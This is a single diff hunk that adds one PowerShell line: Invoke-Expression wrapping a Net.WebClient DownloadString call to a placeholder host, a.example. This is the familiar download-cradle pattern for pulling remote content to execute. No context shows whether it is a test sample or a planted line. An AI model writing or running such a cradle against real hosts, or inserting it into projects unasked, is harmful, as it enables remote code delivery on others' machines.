@@ -1,0 +1,1 @@
+Invoke-Expression -Command '$c = New-Object Net.WebClient; $c.DownloadString(''http://a.example/p/x.txt'')'
